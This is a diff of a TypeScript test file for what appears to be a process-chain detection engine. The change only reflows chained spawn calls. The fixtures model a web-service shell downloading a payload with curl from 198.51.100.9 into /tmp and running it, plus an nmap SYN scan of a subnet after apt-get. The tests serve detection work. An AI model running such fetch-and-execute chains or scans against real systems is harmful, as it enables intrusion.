@@ -76,9 +76,7 @@ describe('chain: Web service shell fetches and runs a payload', () => {
 
   it('is cancelled by a checksum check between download and run, but not by one elsewhere', async () => {
     const steps = (s: Story) =>
-      s
-        .spawn(10, 3000, 2001, SH(['-c', 'x'], WEB))
-        .spawn(11, 3001, 3000, PROGRAM('curl', '/usr/bin/curl', ['-o', '/tmp/p', 'http://198.51.100.9/p'], WEB));
+      s.spawn(10, 3000, 2001, SH(['-c', 'x'], WEB)).spawn(11, 3001, 3000, PROGRAM('curl', '/usr/bin/curl', ['-o', '/tmp/p', 'http://198.51.100.9/p'], WEB));
     const verified = steps(base())
       .spawn(12, 3002, 3000, PROGRAM('sha256sum', '/usr/bin/sha256sum', ['-c', '/tmp/p.sha256'], WEB))
       .spawn(13, 3003, 3000, PROGRAM('p', '/tmp/p', [], WEB));
@@ -188,10 +186,7 @@ describe('chain: Tooling installed in a container, then network tools', () => {
   const scan = PROGRAM('nmap', '/usr/bin/nmap', ['-sS', '10.0.0.0/24'], OTHER);
 
   it('finds apt-get then nmap in the same container, in unrelated processes', async () => {
-    const story = base()
-      .spawn(5, 3400, 2000, SH([], OTHER))
-      .spawn(6, 3401, 3400, install)
-      .spawn(60, 3402, 2000, scan);
+    const story = base().spawn(5, 3400, 2000, SH([], OTHER)).spawn(6, 3401, 3400, install).spawn(60, 3402, 2000, scan);
     expect(await run(story)).toEqual(['Tooling installed in a container, then network tools: install=apt-get,3401 network_tool=nmap,3402']);
   });
 
